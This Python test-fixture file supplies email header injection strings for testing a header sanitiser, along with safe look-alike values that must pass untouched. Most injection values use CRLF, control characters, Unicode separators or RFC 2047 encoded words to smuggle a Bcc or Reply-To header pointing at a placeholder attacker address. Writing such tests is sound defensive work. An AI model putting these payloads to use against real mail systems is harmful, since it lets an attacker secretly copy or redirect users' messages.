"""Header injection attempts, shared by the unit tests of `mam_mcp.headers` and the end-to-end corpus.

Each value tries to make an outgoing header carry a second header (`Bcc:` to the attacker) or to
end the header block early. `SAFE` lists look-alikes that must pass untouched.
"""

from __future__ import annotations

import base64

ATTACKER = "evil@attacker.example"


def _b(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text.encode(charset)).decode()}?="


INJECTIONS: dict[str, str] = {
    "crlf": f"Hi\r\nBcc: {ATTACKER}",
    "lf": f"Hi\nBcc: {ATTACKER}",
    "cr": f"Hi\rBcc: {ATTACKER}",
    "fold-then-header": f"Hi\r\n Bcc: {ATTACKER}",
    "blank-line-body": "Hi\r\n\r\nInjected body",
    "nul": f"Hi\x00Bcc: {ATTACKER}",
    "vt": f"Hi\x0bBcc: {ATTACKER}",
    "ff": f"Hi\x0cBcc: {ATTACKER}",
    "fs": f"Hi\x1cBcc: {ATTACKER}",
    "gs": f"Hi\x1dBcc: {ATTACKER}",
    "rs": f"Hi\x1eBcc: {ATTACKER}",
    "nel": f"Hi\x85Bcc: {ATTACKER}",
    "u2028": f"Hi\u2028Bcc: {ATTACKER}",
    "u2029": f"Hi\u2029Bcc: {ATTACKER}",
    "q-crlf": f"=?utf-8?q?Hi=0D=0ABcc:_{ATTACKER}?=",
    "q-crlf-lowercase-lang": f"=?UTF-8*en?Q?Hi=0d=0aReply-To:_{ATTACKER}?=",
    "b-crlf": _b(f"Hi\r\nBcc: {ATTACKER}"),
    "b-blank-line": _b("Hi\r\n\r\nInjected body"),
    "q-nul": "=?utf-8?q?Hi=00Bcc?=",
    "q-u2028": f"=?utf-8?q?Hi=E2=80=A8Bcc:_{ATTACKER}?=",
    "q-nel-latin1": f"=?iso-8859-1?q?Hi=85Bcc:_{ATTACKER}?=",
    "u2028-split-across-words": f"=?utf-8?q?Hi=E2=80?= =?utf-8?q?=A8Bcc:_{ATTACKER}?=",
    "utf16-crlf": _b(f"Hi\r\nBcc: {ATTACKER}", "utf-16-be"),
    "unknown-charset": f"=?x-unknown?q?Hi=0D=0ABcc:_{ATTACKER}?=",
    "inside-text": f"Invoice =?utf-8?q?=0D=0ABcc:_{ATTACKER}?= attached",
    "nested": "=?utf-8?q?=3D=3Futf-8=3Fq=3FHi=3D0D=3D0ABcc:=5Fevil@attacker.example=3F=3D?=",
}

SAFE: dict[str, str] = {
    "plain": "Quarterly plan",
    "unicode": "Réunion à 10h: ça marche?",
    "encoded-word": "=?utf-8?q?caf=C3=A9?=",
    "encoded-a-ring": "=?utf-8?q?=C3=85ngstr=C3=B6m?=",  # 0x85 is a byte of Å in UTF-8, not a NEL
    "look-alike": "1 + 1 =? 2 ?= maybe",
    "tab": "Column\tvalue",
    "long": "word " * 180,
}
